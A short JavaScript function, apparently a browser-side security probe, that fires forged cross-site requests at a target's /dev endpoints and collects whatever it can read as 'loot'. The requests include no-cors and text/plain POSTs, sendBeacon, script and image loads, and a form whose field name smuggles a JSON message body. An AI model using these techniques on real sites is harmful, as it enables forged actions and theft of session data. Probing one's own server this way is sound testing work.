async (target) => {
  const loot = [];
  const body = '{"phone":"1","kind":"text","body":"from another site"}';
  const read = async (name, init, path) => {
    try {
      const response = await fetch(target + path, init);
      const text = await response.text();
      if (text) loot.push(name + ' read ' + text);
    } catch {}
  };
  await read('text', { method: 'POST', body, headers: { 'Content-Type': 'text/plain' } }, '/dev/act');
  await read('simple', { method: 'POST', body, mode: 'no-cors' }, '/dev/act');
  await read('json', { method: 'POST', body, headers: { 'Content-Type': 'application/json' } }, '/dev/act');
  await read('blob', { method: 'POST', body: new Blob([body]), mode: 'no-cors' }, '/dev/act');
  await read('state', {}, '/dev/state');
  await read('session', { mode: 'no-cors' }, '/dev/session?phone=1');
  navigator.sendBeacon(target + '/dev/act', body);
  const loads = (node) => new Promise((resolve) => {
    node.onload = () => resolve(true);
    node.onerror = () => resolve(false);
    document.body.append(node);
  });
  for (const [tag, props] of [['script', { src: target + '/dev/page.js' }], ['script', { src: target + '/dev/state' }], ['img', { src: target + '/dev/icon.svg' }]]) {
    if (await loads(Object.assign(document.createElement(tag), props))) loot.push(tag + ' loaded ' + props.src);
  }
  const frame = Object.assign(document.createElement('iframe'), { name: 'frame' });
  document.body.append(frame);
  const form = Object.assign(document.createElement('form'), { action: target + '/dev/act', method: 'post', enctype: 'text/plain', target: 'frame' });
  form.append(Object.assign(document.createElement('input'), { name: '{"phone":"1","kind":"text","body":"', value: '"}' }));
  document.body.append(form);
  const sent = new Promise((resolve) => { frame.onload = resolve; });
  form.submit();
  await sent;
  frame.remove();
  return loot;
}
